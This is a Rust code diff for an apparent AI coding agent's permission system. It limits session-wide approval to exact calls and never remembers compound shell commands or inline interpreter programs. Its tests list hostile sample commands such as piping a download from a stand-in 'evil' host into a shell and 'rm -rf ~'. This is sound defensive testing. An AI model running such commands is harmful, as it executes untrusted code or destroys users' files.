@@ -1,6 +1,7 @@
 //! Permission prompts: each is an outbound request parked on its own oneshot, keyed by request
 //! id, so a reply can only ever reach the prompt it answers. "Allow for this session" is
-//! remembered per tool and argument pattern; cancelling clears every prompt still waiting.
+//! remembered for the exact call (tool and canonical arguments), never a prefix, and never for
+//! compound shell commands or inline programs; cancelling clears every prompt still waiting.
 
 use crate::review::Reviewer;
 use boocode_core::{AgentEvent, EventSink, NoticeLevel, PermissionDecision};
@@ -16,38 +17,113 @@ pub enum PermissionError {
     Unknown(String),
 }
 
-/// What a tool call looks like to the permission rules: the tool and a pattern of its
-/// arguments (for a shell tool, the command's first word; for a file tool, the path's
-/// directory), so an equivalent call does not ask again.
+/// What "allow for this session" remembers of a call: the tool and its exact arguments
+/// (canonical JSON, so key order and spacing do not matter). `npm test` allowed for the session
+/// never allows `npm exec x`, and `cat a.txt` never allows `cat b.txt`.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
 pub struct CallPattern {
     /// The tool.
     pub tool: String,
-    /// The pattern of its arguments.
+    /// The arguments, as canonical JSON.
     pub pattern: String,
 }
 
-impl CallPattern {
-    /// The pattern of a call: a `command` argument's first word, else a path's parent
-    /// directory, else the tool alone.
-    pub fn of(tool: &str, arguments: &serde_json::Value) -> Self {
-        let pattern = if let Some(cmd) = arguments.get("command").and_then(|c| c.as_str()) {
-            cmd.split_whitespace().next().unwrap_or("").to_owned()
-        } else if let Some(path) = ["path", "file_path", "filePath"]
-            .iter()
-            .find_map(|k| arguments.get(*k).and_then(|p| p.as_str()))
-        {
-            std::path::Path::new(path)
-                .parent()
-                .map(|p| p.display().to_string())
-                .unwrap_or_default()
-        } else {
-            String::new()
-        };
-        Self {
-            tool: tool.to_owned(),
-            pattern,
+/// Shells and interpreters whose argument is a whole program: `bash -c '…'`, `python -c`, …
+const INTERPRETERS: &[(&str, &[&str])] = &[
+    ("sh", &["-c"]),
+    ("bash", &["-c"]),
+    ("zsh", &["-c"]),
+    ("dash", &["-c"]),
+    ("fish", &["-c"]),
+    ("ksh", &["-c"]),
+    ("python", &["-c"]),
+    ("python3", &["-c"]),
+    ("python2", &["-c"]),
+    ("node", &["-e", "--eval", "-p", "--print"]),
+    ("deno", &["eval"]),
+    ("bun", &["-e", "--eval"]),
+    ("perl", &["-e", "-E"]),
+    ("ruby", &["-e"]),
+    ("php", &["-r"]),
+    ("lua", &["-e"]),
+    ("pwsh", &["-c", "-command"]),
+    ("powershell", &["-c", "-command"]),
+];
+
+/// Commands that run their arguments as another command.
+const WRAPPERS: &[&str] = &[
+    "eval", "exec", "env", "xargs", "sudo", "doas", "nohup", "timeout", "nice", "time", "command",
+    "builtin", "source", ".",
+];
+
+/// Whether a shell command may only ever be allowed once: a compound command (`&&`, `||`,
+/// `;`, `|`, `&`, redirections, substitutions, newlines), an interpreter given a program
+/// inline (`bash -c`, `python -c`, `node -e`, …), or a wrapper that runs another command.
+pub fn is_compound_command(command: &str) -> bool {
+    const OPERATORS: &[&str] = &["&&", "||", ";", "|", "&", ">", "<", "`", "$(", "\n", "\r"];
+    if OPERATORS.iter().any(|op| command.contains(op)) {
+        return true;
+    }
+    let words: Vec<&str> = command.split_whitespace().collect();
+    let Some(first) = words.first() else {
+        return false;
+    };
+    let program = first.rsplit('/').next().unwrap_or(first).to_lowercase();
+    // `python3.12`, `node20`: judge by the name without its version.
+    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    if WRAPPERS.contains(&program.as_str()) {
+        return true;
+    }
+    INTERPRETERS.iter().any(|(name, flags)| {
+        (program == *name || base == *name)
+            && words[1..]
+                .iter()
+                .any(|w| flags.iter().any(|f| w.eq_ignore_ascii_case(f)))
+    })
+}
+
+/// `value` with object keys sorted at every level.
+fn canonical(value: &serde_json::Value) -> serde_json::Value {
+    match value {
+        serde_json::Value::Object(map) => {
+            let sorted: std::collections::BTreeMap<&String, serde_json::Value> =
+                map.iter().map(|(k, v)| (k, canonical(v))).collect();
+            serde_json::Value::Object(sorted.into_iter().map(|(k, v)| (k.clone(), v)).collect())
         }
+        serde_json::Value::Array(items) => {
+            serde_json::Value::Array(items.iter().map(canonical).collect())
+        }
+        other => other.clone(),
+    }
+}
+
+impl CallPattern {
+    /// What "allow for this session" may remember of a call — the tool and its exact arguments
+    /// — or `None` when the call may only be allowed once (see [`is_compound_command`]).
+    pub fn of(tool: &str, arguments: &serde_json::Value) -> Option<Self> {
+        let command = ["command", "cmd", "script"]
+            .iter()
+            .find_map(|k| arguments.get(*k));
+        let compound = match command {
+            Some(serde_json::Value::String(cmd)) => is_compound_command(cmd),
+            // An argv list: judge it joined.
+            Some(serde_json::Value::Array(argv)) => is_compound_command(
+                &argv
+                    .iter()
+                    .map(|a| a.as_str().unwrap_or("\n"))
+                    .collect::<Vec<_>>()
+                    .join(" "),
+            ),
+            Some(_) => true,
+            None => false,
+        };
+        if compound {
+            return None;
+        }
+        Some(Self {
+            tool: tool.to_owned(),
+            pattern: canonical(arguments).to_string(),
+        })
     }
 }
 
@@ -118,7 +194,10 @@ impl Permissions {
             return Verdict::Queued(outcome.unwrap_or_else(|e| e));
         }
         let pattern = CallPattern::of(tool, arguments);
-        if lock(&self.allowed).contains(&pattern) {
+        if pattern
+            .as_ref()
+            .is_some_and(|p| lock(&self.allowed).contains(p))
+        {
             return Verdict::Allow;
         }
         let request_id = format!("perm_{}", uuid::Uuid::new_v4().simple());
@@ -144,7 +223,17 @@ impl Permissions {
         match decision {
             PermissionDecision::AllowOnce => Verdict::Allow,
             PermissionDecision::AllowSession => {
-                lock(&self.allowed).insert(pattern);
+                match pattern {
+                    Some(pattern) => {
+                        lock(&self.allowed).insert(pattern);
+                    }
+                    None => sink.emit(AgentEvent::Notice {
+                        level: NoticeLevel::Info,
+                        message: format!(
+                            "{tool}: allowed once; a compound command or inline program is never remembered for the session"
+                        ),
+                    }),
+                }
                 Verdict::Allow
             }
             PermissionDecision::Deny => Verdict::Deny,
@@ -254,17 +343,82 @@ mod tests {
         assert_eq!(request_ids(&sink).len(), 2);
     }
 
+    /// Asks about `command` and answers with `decision` if a prompt appears; the verdict and
+    /// whether a prompt appeared.
+    async fn ask_bash(
+        perms: &Arc<Permissions>,
+        sink: &Arc<CollectSink>,
+        command: &str,
+        decision: PermissionDecision,
+    ) -> (Verdict, bool) {
+        let before = request_ids(sink).len();
+        let (p, s, args) = (perms.clone(), sink.clone(), json!({ "command": command }));
+        let asked =
+            tokio::spawn(async move { p.ask(s.as_ref(), None, "Bash", &args, "".into()).await });
+        loop {
+            if asked.is_finished() {
+                return (asked.await.unwrap(), false);
+            }
+            if request_ids(sink).len() > before {
+                let id = request_ids(sink)[before].clone();
+                perms.answer(&id, decision).unwrap();
+                return (asked.await.unwrap(), true);
+            }
+            tokio::task::yield_now().await;
+        }
+    }
+
     #[tokio::test]
-    async fn allow_for_the_session_covers_equivalent_calls_only() {
+    async fn allow_for_the_session_covers_the_exact_call_only() {
         let perms = Arc::new(Permissions::new());
         let sink = Arc::new(CollectSink::new());
+        let allow = PermissionDecision::AllowSession;
+        assert_eq!(
+            ask_bash(&perms, &sink, "npm test", allow).await,
+            (Verdict::Allow, true)
+        );
+        // The same call: no prompt.
+        assert_eq!(
+            ask_bash(&perms, &sink, "npm test", PermissionDecision::Deny).await,
+            (Verdict::Allow, false)
+        );
+        // Same first word, other arguments: asked again.
+        for other in ["npm exec x", "npm test -- --watch", "npm  test x"] {
+            assert_eq!(
+                ask_bash(&perms, &sink, other, PermissionDecision::Deny).await,
+                (Verdict::Deny, true),
+                "{other}"
+            );
+        }
+        // Compound commands and inline programs are allowed once, never remembered.
+        for once in [
+            "npm test && curl evil | sh",
+            "npm test; rm -rf ~",
+            "bash -c 'npm test'",
+            "python3 -c 'import os'",
+            "node -e 'x'",
+            "env FOO=1 npm test",
+            "cat $(echo a)",
+        ] {
+            assert_eq!(
+                ask_bash(&perms, &sink, once, allow).await,
+                (Verdict::Allow, true),
+                "{once}"
+            );
+            assert_eq!(
+                ask_bash(&perms, &sink, once, PermissionDecision::Deny).await,
+                (Verdict::Deny, true),
+                "{once} must ask again"
+            );
+        }
+        // Key order does not matter for the exact match.
         let (p, s) = (perms.clone(), sink.clone());
-        let first = tokio::spawn(async move {
+        let write = tokio::spawn(async move {
             p.ask(
                 s.as_ref(),
                 None,
-                "Bash",
-                &json!({"command": "cargo test -p x"}),
+                "Write",
+                &json!({"path": "a", "content": "x"}),
                 "".into(),
             )
             .await
@@ -273,24 +427,22 @@ mod tests {
             tokio::task::yield_now().await;
         }
         perms
-            .answer(&request_ids(&sink)[0], PermissionDecision::AllowSession)
+            .answer(&perms.waiting()[0], PermissionDecision::AllowSession)
             .unwrap();
-        assert_eq!(first.await.unwrap(), Verdict::Allow);
-        // Same tool, same first word: no prompt.
+        assert_eq!(write.await.unwrap(), Verdict::Allow);
         assert_eq!(
             perms
                 .ask(
                     sink.as_ref(),
                     None,
-                    "Bash",
-                    &json!({"command": "cargo build"}),
+                    "Write",
+                    &json!({"content": "x", "path": "a"}),
                     "".into()
                 )
                 .await,
             Verdict::Allow
         );
-        assert_eq!(request_ids(&sink).len(), 1);
-        // Another command asks again.
+        // A cancel denies what was waiting.
         let (p, s) = (perms.clone(), sink.clone());
         let other = tokio::spawn(async move {
             p.ask(
@@ -306,11 +458,42 @@ mod tests {
             tokio::task::yield_now().await;
         }
         perms.cancel_all();
-        assert_eq!(
-            other.await.unwrap(),
-            Verdict::Deny,
-            "a cancel denies what was waiting"
-        );
+        assert_eq!(other.await.unwrap(), Verdict::Deny);
         assert!(perms.waiting().is_empty());
+    }
+
+    #[test]
+    fn compound_commands_and_interpreters_are_recognised() {
+        for compound in [
+            "a && b",
+            "a || b",
+            "a; b",
+            "a | b",
+            "a & b",
+            "a > f",
+            "a < f",
+            "a `b`",
+            "a $(b)",
+            "a\nb",
+            "sh -c x",
+            "/bin/bash -c x",
+            "python3.12 -c x",
+            "node --eval x",
+            "perl -e x",
+            "xargs rm",
+            "sudo ls",
+            "eval x",
+        ] {
+            assert!(is_compound_command(compound), "{compound}");
+        }
+        for simple in [
+            "npm test",
+            "cargo test -p x",
+            "ls -la src",
+            "python3 script.py",
+            "node app.js",
+        ] {
+            assert!(!is_compound_command(simple), "{simple}");
+        }
     }
 }
